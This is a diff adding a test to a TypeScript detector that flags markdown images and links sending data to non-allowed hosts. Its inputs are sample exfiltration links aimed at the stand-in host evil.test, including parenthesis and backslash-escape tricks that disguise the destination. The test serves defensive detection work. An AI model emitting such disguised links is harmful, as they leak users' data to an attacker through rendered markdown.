@@ -195,6 +195,27 @@ test('exfil links: labels, the blanks around a destination and titles run over l
   assert.deepEqual(spans('See [x][the\ndocs].\n\n[The Docs]: https://evil.test/d'), ['[x][the\ndocs]', '[The Docs]: https://evil.test/d']);
 });
 
+test('exfil links: destinations with balanced or escaped parentheses, titles too long to read, backslash escapes before the host check', () => {
+  const d = createExfilLinksDetector({ id: 'e', allowedHosts: ['trusted.example'] });
+  const spans = (t: string) => d.scan(t, ctx).map((f) => [t.slice(f.start, f.end), f.explanation.split(',')[0]]);
+  // CommonMark renders each of these as an image of evil.test; none was found before.
+  for (const x of ['![x](https://evil.test/p(1).png?q=S)', '![x](https://evil.test/p((1)(2)).png)', '![x](https://evil.test/a\\(b.png)', `![x](https://evil.test/${'('.repeat(32)}a${')'.repeat(32)})`]) {
+    assert.deepEqual(spans(`see ${x} now`), [[x, 'markdown image']], x);
+  }
+  // Unbalanced, or nested deeper than renderers read: no image (nothing to find).
+  assert.deepEqual(spans('![x](https://evil.test/p(1.png)'), []);
+  assert.deepEqual(spans(`![x](https://evil.test/${'('.repeat(33)}a${')'.repeat(33)})`), []);
+  // A title INLINE does not read (over 200 characters, or followed by more than blanks and ')'): the
+  // markup up to the end of the destination goes; the title stays as text.
+  const long = `![x](https://evil.test/p.png?q=S  "${'t'.repeat(250)}")`;
+  assert.deepEqual(spans(long), [['![x](https://evil.test/p.png?q=S', 'markdown image']]);
+  assert.deepEqual(spans('[y](https://evil.test/ "t" junk) z'), [['[y](https://evil.test/', 'markdown link']]);
+  assert.deepEqual(spans('![y](https://trusted.example/ok.png "t" junk) ![z](https://trusted.example/p(1).png)'), []);
+  // A backslash escape is removed before a renderer reads the host: trusted.example\@evil.test is evil.test.
+  assert.deepEqual(spans('![x](https://trusted.example\\@evil.test/p.png)'), [['![x](https://trusted.example\\@evil.test/p.png)', 'markdown image']]);
+  assert.deepEqual(spans('[x](https://trusted.example/a\\_b)'), []);
+});
+
 /**
  * Each text gives exactly one finding, spanning `span` as written, with `score`; its explanation names
  * no host and none of the URL's characters.
